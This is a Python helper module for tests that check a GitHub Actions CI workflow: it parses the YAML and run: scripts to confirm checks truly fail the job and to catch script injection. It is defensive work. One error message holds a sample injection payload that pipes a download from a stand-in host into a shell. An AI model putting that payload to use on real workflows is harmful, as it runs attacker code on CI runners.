"""The CI workflow as GitHub reads it, and its scripts as bash runs them.

``tests/addons/test_github_ci.py`` checks the workflow with these helpers. The
YAML is read like GitHub reads it: a key given twice is an error, and YAML 1.1
reads a bare ``on`` as ``True``. Each ``run:`` script is split into commands
with ``shlex``, and each command is judged the way ``bash -e`` (the runner's
default shell) treats a failure of it: ``ruff check . || true`` cannot fail,
nor can a command in a step with ``if:`` or ``continue-on-error``, and
``echo ruff check`` runs ``echo``.
"""

import itertools
import re
import shlex
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from action_pins import RELEASES, tags

ROOT = Path(__file__).resolve().parents[2]
WORKFLOW = ROOT / ".github" / "workflows" / "ci.yml"
# Variables that change what pytest, mypy or ruff check, or which programs run.
TAMPERING_VARIABLE = re.compile(
    r"PYTEST_\w+|MYPY\w*|RUFF_\w+|HADOLINT_\w+|PATH|PYTHONPATH|PIP_\w+|UV_\w+"
)
HARMLESS_VARIABLES = {
    "MYPY_FORCE_COLOR", "RUFF_OUTPUT_FORMAT", "RUFF_NO_CACHE",
    "PIP_DISABLE_PIP_VERSION_CHECK", "PIP_NO_COLOR", "PIP_PROGRESS_BAR",
    "UV_NO_PROGRESS", "UV_CACHE_DIR",
}  # fmt: skip
# Expressions a `run:` script may hold: values the repository or GitHub chooses,
# never one a user who pushes a branch or opens a pull request could write.
TRUSTED_EXPRESSION = re.compile(
    r"(?:matrix|runner|strategy)\.[\w.-]+"
    r"|github\.(?:sha|run_id|run_number|run_attempt|repository|repository_id"
    r"|repository_owner|event_name|workflow|job|workspace|server_url|api_url)"
)


# The workflow, read as GitHub reads it.


class WorkflowLoader(yaml.SafeLoader):
    """PyYAML's safe loader, refusing a key given twice in one mapping like GitHub."""


def construct_mapping(loader: WorkflowLoader, node: yaml.MappingNode) -> dict[Any, Any]:
    loader.flatten_mapping(node)
    keys = [loader.construct_object(key, deep=True) for key, _ in node.value]
    twice = sorted({str(key) for key in keys if keys.count(key) > 1})
    if twice:
        raise yaml.constructor.ConstructorError(
            None, None, f"{', '.join(twice)} given twice", node.start_mark
        )
    return dict(loader.construct_pairs(node, deep=True))


WorkflowLoader.add_constructor(
    yaml.resolver.BaseResolver.DEFAULT_MAPPING_TAG, construct_mapping
)


def load(path: Path) -> dict[Any, Any]:
    try:
        document = yaml.load(path.read_text(encoding="utf-8"), Loader=WorkflowLoader)
    except yaml.YAMLError as error:
        pytest.fail(f"{path.name} is not valid YAML for GitHub: {error}")
    assert isinstance(document, dict), f"{path.name} is not a mapping"
    return document


def workflow() -> dict[Any, Any]:
    return load(WORKFLOW)


def triggers() -> Any:
    """The ``on:`` of the workflow. YAML 1.1 reads a bare ``on`` as ``True``."""
    document = workflow()
    return document.get("on", document.get(True))


def jobs() -> dict[str, dict[str, Any]]:
    found = workflow().get("jobs") or {}
    assert isinstance(found, dict), "jobs: is a mapping of job names"
    return found


def job(name: str) -> dict[str, Any]:
    all_jobs = jobs()
    assert name in all_jobs, f"no job named {name!r} (there are {sorted(all_jobs)})"
    found = all_jobs[name]
    assert isinstance(found, dict), f"job {name!r} is not a mapping"
    return found


def steps(of: dict[str, Any]) -> list[dict[str, Any]]:
    found = of.get("steps") or []
    assert isinstance(found, list), "steps: is a list"
    return [step if isinstance(step, dict) else {} for step in found]


def action_of(step: dict[str, Any]) -> tuple[str, str]:
    """``("actions/checkout", "v7")`` for ``uses: actions/checkout@v7``."""
    action, _, ref = str(step.get("uses", "")).partition("@")
    return action, ref


def using(of: dict[str, Any], action: str) -> list[dict[str, Any]]:
    """The steps of a job that use ``action`` (``owner/repo``), at any version."""
    return [step for step in steps(of) if action_of(step)[0] == action]


def assert_real_release(step: dict[str, Any]) -> None:
    """The step uses an action at a tag or commit that exists."""
    action, ref = action_of(step)
    assert action in RELEASES, (
        f"uses: {step.get('uses')}: use {', '.join(sorted(RELEASES))} "
        "(the releases these tests know are in tests/addons/action_pins.py)"
    )
    assert ref in RELEASES[action] or ref in tags(action), (
        f"uses: {step.get('uses')}: {ref!r} is not a release of {action}; use one "
        f"of {sorted(tags(action))} or its commit SHA from tests/addons/action_pins.py"
    )


# run: scripts, as bash runs them. GitHub runs each with `bash -e`: a failing
# command stops the script, except where bash makes an exception.

SEPARATORS = {";", ";;", "&", "\n"}
REDIRECTS = {">", ">>", "<", ">&", "&>", "<&", "<>", ">|", "&>>", "<<<", "<<", "<<-"}
ASSIGNMENT = re.compile(r"[A-Za-z_]\w*=")
STOPPERS = {"exit", "exec", "return", "logout"}
TAMPERERS = {
    "trap",
    "alias",
    "shopt",
    "enable",
    "function",
    "cd",
    "pushd",
    "source",
    ".",
}


@dataclass(frozen=True)
class Command:
    """One command of a ``run:`` script and whether a failure of it fails the step."""

    words: list[str]
    why_not: str
    """Why a failure of this command would not fail the step; "" when it would."""
    writes: list[str]
    """The files its output goes to (``> file``)."""


def shell_tokens(line: str) -> list[str]:
    lexer = shlex.shlex(line, posix=True, punctuation_chars=";&|<>()")
    lexer.whitespace_split = True
    lexer.commenters = "#"
    return list(lexer)


def script_tokens(script: str) -> list[str]:
    """The tokens of a script, ``\\n`` between lines; heredoc bodies left out."""
    lines = script.splitlines()
    tokens: list[str] = []
    index = 0
    while index < len(lines):
        text, index = lines[index], index + 1
        while True:
            if text.endswith("\\") and index < len(lines):
                text, index = text[:-1] + lines[index], index + 1
                continue
            try:
                found = shell_tokens(text)
            except ValueError:  # a quoted string that goes on to the next line
                if index == len(lines):
                    raise
                text, index = text + "\n" + lines[index], index + 1
                continue
            break
        for position, token in enumerate(found[:-1]):
            if token in {"<<", "<<-"}:
                end = found[position + 1]
                while index < len(lines) and lines[index].strip() != end:
                    index += 1
                index += 1
        tokens += [*found, "\n"]
    return tokens


def split(tokens: list[str], operators: set[str]) -> tuple[list[list[str]], list[str]]:
    """The runs of ``tokens`` between ``operators``, and the operators between them."""
    parts: list[list[str]] = [[]]
    found: list[str] = []
    for token in tokens:
        if token in operators:
            parts.append([])
            found.append(token)
        else:
            parts[-1].append(token)
    return parts, found


def without_redirections(tokens: list[str]) -> tuple[list[str], list[str]]:
    """The words of a command, and the files it writes to."""
    words: list[str] = []
    writes: list[str] = []
    for position, token in enumerate(tokens):
        following = tokens[position + 1] if position + 1 < len(tokens) else ""
        if position and tokens[position - 1] in REDIRECTS:
            if tokens[position - 1] in {">", ">>", ">|", "&>", "&>>"}:
                writes.append(token)
        elif token not in REDIRECTS and not (
            token.isdigit() and following in REDIRECTS
        ):
            words.append(token)
    return words, writes


def errexit_after(words: list[str], errexit: bool) -> bool:
    """Whether bash stops at a failure after ``set ...``."""
    for position, word in enumerate(words[1:], start=1):
        following = words[position + 1] if position + 1 < len(words) else ""
        if word in {"-o", "+o"} and following == "errexit":
            errexit = word == "-o"
        elif re.fullmatch(r"[-+][a-zA-Z]+", word) and "e" in word:
            errexit = word.startswith("-")
    return errexit


def chain_verdict(
    position: int,
    operators: list[str],
    *,
    last_line: bool,
    errexit: bool,
) -> str:
    """Why a failure of the ``position``-th pipeline of a ``&&``/``||`` list would
    not fail the step, or ""."""
    if "||" in operators[:position]:
        return "`||` comes before it: it runs only when the command before it fails"
    if "||" in operators[position:]:
        return "`||` follows it: a failure runs the other command instead of failing"
    if last_line:
        return ""  # the script's status is this line's
    if not errexit:
        return "after `set +e` a failure does not stop the script"
    if operators:
        return (
            "it is joined with `&&` on a line that is not the script's last, where "
            "bash -e goes on after a failure: put it on a line of its own"
        )
    return ""


def activates(words: list[str]) -> bool:
    """Whether the command is ``source .venv/bin/activate``, which only puts that
    environment first on PATH."""
    return (
        len(words) == 2
        and words[0] in {"source", "."}
        and (words[1].endswith("/bin/activate"))
    )


def commands(script: str) -> list[Command]:
    """Every command of a ``run:`` script, in order."""
    lines, separators = split(script_tokens(script), SEPARATORS)
    kept = [
        (tokens, separators[index] == "&" if index < len(separators) else False)
        for index, tokens in enumerate(lines)
        if tokens
    ]
    found: list[Command] = []
    errexit, stopped = True, ""
    for number, (tokens, background) in enumerate(kept):
        pipelines, operators = split(tokens, {"&&", "||"})
        for position, pipeline in enumerate(pipelines):
            piped, _ = split(pipeline, {"|", "|&"})
            for index, part in enumerate(piped):
                words, writes = without_redirections(part)
                if background:
                    why = "it runs in the background (`&`): nothing waits for it"
                elif index < len(piped) - 1:
                    why = "it is piped into another command, whose status counts"
                else:
                    why = chain_verdict(
                        position,
                        operators,
                        last_line=number == len(kept) - 1,
                        errexit=errexit,
                    )
                found.append(Command(words, stopped or why, writes))
                name = words[0] if words else ""
                if name == "set":
                    errexit = errexit_after(words, errexit)
                elif name in STOPPERS:
                    stopped = f"`{name}` before it ends the script"
                elif activates(words):
                    pass
                elif (
                    name in TAMPERERS
                    or "()" in words
                    or any(word.startswith("PATH=") for word in words)
                ):
                    stopped = (
                        f"`{' '.join(words)}` before it changes what a command "
                        "name runs, or where"
                    )
    return found


PYTHON = re.compile(r"python(?:3(?:\.\d+)?)?")
# Programs that run another one, and the options each may take before it (True:
# the option takes a value).
WRAPPERS: dict[tuple[str, ...], dict[str, bool]] = {
    ("uv", "run"): {
        **dict.fromkeys(["--frozen", "--locked", "--no-sync", "--all-groups"], False),
        **dict.fromkeys(["--group", "--with", "--python", "-p", "--extra"], True),
    },
    ("uvx",): dict.fromkeys(["--from", "--with", "--python", "-p"], True),
    ("pipx", "run"): dict.fromkeys(["--spec", "--python"], True),
    ("coverage", "run"): {"-m": False},
}


def unwrap(words: list[str]) -> list[str]:
    """The program a command really runs: ``ruff check .`` for ``uv run ruff check .``
    or ``python -m ruff check .``; [] for a wrapper option these tests do not know."""
    argv = list(words)
    while True:
        if len(argv) > 2 and PYTHON.fullmatch(argv[0]) and argv[1] == "-m":
            argv = argv[2:]
            continue
        wrapper = next((w for w in WRAPPERS if tuple(argv[: len(w)]) == w), None)
        if wrapper is None:
            return argv
        options, index = WRAPPERS[wrapper], len(wrapper)
        while index < len(argv) and argv[index].startswith("-"):
            name, equals, _ = argv[index].partition("=")
            if name not in options:
                return []
            index += 2 if options[name] and not equals else 1
        argv = argv[index:]


@dataclass(frozen=True)
class Run:
    """A command of a job and what it runs."""

    step: int
    """The index of its step in the job."""
    argv: list[str]
    """The program and its arguments, wrappers and variables left out."""
    why_not: str
    writes: list[str]
    words: tuple[str, ...] = ()
    """The command as written, wrappers and all."""


def job_problem(name: str) -> str:
    """Why the job could be skipped or pass while a step fails, or ""."""
    of = job(name)
    if "if" in of:
        return f"the {name} job has `if: {of['if']}`: it must run on every push"
    if of.get("continue-on-error") not in {None, False}:
        return f"the {name} job has `continue-on-error`: its failure must count"
    if not re.fullmatch(r"ubuntu-(?:latest|\d\d\.\d\d)", str(of.get("runs-on"))):
        return f"the {name} job runs on {of.get('runs-on')!r}: use `ubuntu-latest`"
    for scope, where in ((workflow(), "the workflow"), (of, f"the {name} job")):
        run = (scope.get("defaults") or {}).get("run") or {}
        if run:
            return f"{where} has `defaults: run: {run}`: keep bash and the root"
        problem = variables_problem(scope.get("env"), where)
        if problem:
            return problem
    return ""


def variables_problem(env: Any, where: str) -> str:
    for variable in env or {}:
        name = str(variable)
        if TAMPERING_VARIABLE.fullmatch(name) and name not in HARMLESS_VARIABLES:
            return f"{where} sets {name}, which changes what the checks check"
    return ""


def step_problem(step: dict[str, Any]) -> str:
    """Why a failure in this step could leave the job green, or ""."""
    if "if" in step:
        return f"its step has `if: {step['if']}`: it must run on every push"
    if step.get("continue-on-error") not in {None, False}:
        return "its step has `continue-on-error`: its failure must fail the job"
    if step.get("shell") not in {None, "bash", "sh"}:
        return f"its step has `shell: {step['shell']}`: use the default shell"
    if str(step.get("working-directory", ".")).strip("/") not in {".", ""}:
        return f"its step runs in {step['working-directory']}, not the root"
    return variables_problem(step.get("env"), "its step")


def untrusted_expressions(script: str) -> list[str]:
    """The ``${{ ... }}`` of a script that name a value a user could choose."""
    found = []
    for expression in re.findall(r"\$\{\{(.*?)\}\}", script, re.DOTALL):
        bare = re.sub(r"'[^']*'", "", expression)
        names = [
            match[1]
            for match in re.finditer(
                r"([A-Za-z_][\w-]*(?:\.[\w*-]+|\[[^]]*\])*)(\s*\()?", bare
            )
            if not match[2] and match[1] not in {"true", "false", "null"}
        ]
        if any(not TRUSTED_EXPRESSION.fullmatch(n) for n in names):
            found.append("${{" + expression + "}}")
    return found


def assert_no_injection(where: str, script: str) -> None:
    """A script holds no expression GitHub would paste into its code unquoted."""
    untrusted = untrusted_expressions(script)
    assert not untrusted, (
        f"{where}: the script holds `{untrusted[0].strip()}`. GitHub pastes its "
        "value into the code before bash runs it, so a branch name or a pull "
        'request title such as `x";curl evil.example|sh;"` would run as a command '
        "(script injection). Pass the value through the step's `env:` (`env: "
        '{HEAD_REF: ${{ github.head_ref }}}`) and use "$HEAD_REF" in the script'
    )


def runs(name: str) -> list[Run]:
    """Every command the ``run:`` steps of a job run, in order."""
    found: list[Run] = []
    for index, step in enumerate(steps(job(name))):
        if "run" not in step:
            continue
        assert_no_injection(f"{name}: step {index + 1}", str(step["run"]))
        try:
            script = commands(str(step["run"]))
        except ValueError as error:
            pytest.fail(f"{name}: step {index + 1}: the script does not parse: {error}")
        problem = step_problem(step)
        for command in script:
            words = command.words
            count = next(
                (i for i, word in enumerate(words) if not ASSIGNMENT.match(word)),
                len(words),
            )
            variables, argv = words[:count], unwrap(words[count:])
            why = command.why_not or problem
            for variable in variables:
                why = why or variables_problem(
                    [variable.partition("=")[0]], "the command"
                )
            found.append(Run(index, argv, why, command.writes, tuple(words[count:])))
    return found


def split_options(
    argv: list[str], flags: str, valued: str
) -> tuple[list[str], list[str], str]:
    """The options and the positional arguments of ``argv`` (without its program),
    and an option the pattern ``flags`` (no value) or ``valued`` does not allow."""
    names: list[str] = []
    positional: list[str] = []
    index = 0
    while index < len(argv):
        word = argv[index]
        name, equals, _ = word.partition("=")
        if not word.startswith("-") or word == "-":
            positional.append(word)
        elif re.fullmatch(valued, name):
            index += 0 if equals else 1
            names.append(name)
        elif re.fullmatch(flags, word):
            names.append(word)
        else:
            return names, positional, word
        index += 1
    return names, positional, ""


def covers_the_project(paths: list[str]) -> bool:
    """Whether the paths given to a checker leave it the whole project."""
    given = {path.removeprefix("./").rstrip("/") or "." for path in paths}
    return not given or "." in given or {"src", "tests"} <= given


@dataclass(frozen=True)
class Tool:
    """A check a job must run: its program, the options it may take, and what else."""

    title: str
    program: tuple[str, ...]
    flags: str
    valued: str = "(?!)"
    needs: str = ""
    """A regex one of the options must match, when the tool needs one."""
    paths: str = "project"
    """``project``: none, ``.`` or ``src tests``; otherwise a regex each must match."""
    path_needed: bool = False

    def problem(self, argv: list[str]) -> str:
        names, positional, unknown = split_options(
            argv[len(self.program) :], self.flags, self.valued
        )
        if unknown:
            return f"the option `{unknown}` changes what `{self.title}` does"
        if self.needs and not any(re.fullmatch(self.needs, n) for n in names):
            return f"`{self.title}` needs the option {self.needs.replace('|', ' or ')}"
        if self.paths == "project":
            if not covers_the_project(positional):
                return f"`{self.title}` must check the whole project, not {positional}"
        elif not all(re.fullmatch(self.paths, p) for p in positional):
            return f"`{self.title}` is given {positional}: leave them out"
        elif self.path_needed and not positional:
            return f"`{self.title}` needs what it checks on its command line"
        return ""


def docker_build(argv: list[str]) -> list[str]:
    """``docker build ...`` for ``docker image build`` or ``docker buildx build``."""
    if argv[:2] in (["docker", "image"], ["docker", "buildx"]):
        return ["docker", *argv[2:]]
    return argv


def runs_of(name: str, tool: Tool) -> list[Run]:
    """The commands of a job that run ``tool``."""
    program = list(tool.program)
    found = []
    for run in runs(name):
        argv = docker_build(run.argv)
        if argv[: len(program)] == program:
            found.append(Run(run.step, argv, run.why_not, run.writes, run.words))
    return found


def assert_runs(name: str, tool: Tool) -> Run:
    """The job runs ``tool`` where a failure fails the job; that command."""
    problem = job_problem(name)
    assert not problem, problem
    candidates = runs_of(name, tool)
    scripts = " ".join(str(step.get("run", "")) for step in steps(job(name)))
    echoed = tool.program[-1] in scripts
    assert candidates, f"no step of the {name} job runs `{tool.title}`" + (
        " (a command that prints or wraps the words does not run it)" if echoed else ""
    )
    problems = []
    for run in candidates:
        why = run.why_not or tool.problem(run.argv)
        if not why:
            return run
        problems.append(f"`{' '.join(run.argv)}`: {why}")
    pytest.fail(
        f"the {name} job runs {tool.title}, but its failure would not fail the job: "
        + "; ".join(problems)
    )


# Commands any job may run besides its checks: installs, and what only reports.
SETUP = [
    ["pip", "install"], ["pip3", "install"], ["uv", "pip", "install"], ["uv", "sync"],
    ["pipx", "install"], ["pip", "list"], ["pip", "freeze"], ["pip", "check"],
    ["uv", "venv"], ["venv"], ["echo"], ["python", "--version"], ["python", "-V"],
    ["uv", "--version"],
]  # fmt: skip
HARMLESS_OUTPUT = {"/dev/null", "$GITHUB_STEP_SUMMARY"}


def assert_runs_only(name: str, *tools: Tool) -> None:
    """The job runs its installs and ``tools``, and nothing that could change the
    code or the tests before they are checked."""
    allowed = SETUP + [list(tool.program) for tool in tools]
    for run in runs(name):
        argv = docker_build(run.argv)
        known = activates(argv) or any(argv[: len(p)] == p for p in allowed)
        writes = sorted(set(run.writes) - HARMLESS_OUTPUT)
        if not known or writes:
            pytest.fail(
                f"the {name} job runs `{' '.join(run.argv)}`"
                + "".join(f" > {target}" for target in writes)
                + ": a job installs what it needs and runs its checks, nothing that "
                "could change the code, the tests or the environment first"
            )


def install_of(argv: list[str]) -> tuple[bool, set[str]] | None:
    """For an install command: whether it installs the project and which groups."""
    if argv[:2] == ["uv", "sync"]:
        words = argv[2:]
        groups = (
            {"dev"} if not {"--no-dev", "--no-default-groups"} & set(words) else set()
        )
        groups |= {w for p, w in itertools.pairwise(words) if p == "--group"}
        groups |= {w.partition("=")[2] for w in words if w.startswith("--group=")}
        if "--all-groups" in words:
            groups |= {"dev", "test", "lint"}
        project = not {"--no-install-project", "--only-group", "--only-dev"} & set(
            words
        )
        return project, groups
    if argv[:2] == ["uv", "pip"]:
        argv = argv[1:]
    if not argv or argv[0] not in {"pip", "pip3"} or "install" not in argv:
        return None
    words = argv[argv.index("install") + 1 :]
    groups = {w for p, w in itertools.pairwise(words) if p == "--group"}
    groups |= {w.partition("=")[2] for w in words if w.startswith("--group=")}
    project = any(
        word.removeprefix("-e").removeprefix("--editable=") in {".", "./"}
        for word in words
    )
    return project, groups


def assert_installs_before(name: str, run: Run, groups: set[str], what: str) -> None:
    """A command before ``run`` installs the project and ``groups`` (or dev)."""
    for earlier in runs(name):
        if earlier.step > run.step:
            break
        installed = install_of(earlier.argv)
        if (
            installed
            and installed[0]
            and (groups <= installed[1] or "dev" in installed[1])
        ):
            return
    pytest.fail(
        f"the {name} job must install the project and its {what} before it runs "
        f"{run.argv[0]}: `python -m pip install -e . "
        + " ".join(f"--group {g}" for g in sorted(groups))
        + "` (or --group dev)"
    )
